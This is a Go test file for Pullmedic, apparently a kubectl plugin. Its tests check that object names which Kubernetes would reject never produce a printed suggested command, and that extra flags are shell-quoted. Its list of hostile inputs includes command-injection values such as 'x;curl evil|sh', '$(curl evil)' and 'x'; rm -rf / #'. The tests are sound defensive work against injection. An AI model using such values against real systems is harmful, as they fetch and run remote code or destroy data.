// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package report_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/internal/report"
)

func hostileWords() []string {
	return []string{
		"x;curl evil|sh", "$(curl evil)", "`id`", "a b", "it's", `"quoted"`, "a&b", "a>b", "a<b", "*", "?", "~root", "!x", "#c", "{a,b}", "[x]",
		`back\slash`, "a=b", "=x", "-n", "--context=x", "$HOME", "ünïcode", "x'; rm -rf / #", "''", "%s", "a,b", "(x)",
	}
}

// What somebody called an object gets into a command only if Kubernetes would
// allow the name.
func TestNamesThatAreNoNamesGiveNoCommand(t *testing.T) {
	for _, name := range append(hostileWords(), "UPPER", "a/b", "a..b", ".a", "a-", strings.Repeat("a", 254), "a\nb") {
		e := missingTag(0)
		e.Pull.Owner, e.Pull.Via = evidence.Object{}, nil
		e.Pull.Pod = name
		r := judged(t, evidence.Survey{Time: now(), Pods: 1, Namespaces: 1, Pulls: []evidence.Evidence{e}})
		var b bytes.Buffer
		if err := report.Overview(&b, r, report.Style{}); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "->") {
			t.Errorf("a command is printed for the pod %q:\n%s", name, b.String())
		}
	}
}

func TestACommandReachesTheSameCluster(t *testing.T) {
	r := judged(t, evidence.Survey{Time: now(), Pods: 1, Namespaces: 1, Pulls: []evidence.Evidence{missingTag(0)}})
	var b bytes.Buffer
	if err := report.Overview(&b, r, report.Style{Flags: []string{"--context", "prod $(id)"}}); err != nil {
		t.Fatal(err)
	}
	if want := "-> kubectl pullmedic diagnose deployment/api -n shop --context 'prod $(id)'\n"; !strings.Contains(b.String(), want) {
		t.Errorf("%q is not in\n%s", want, b.String())
	}
}
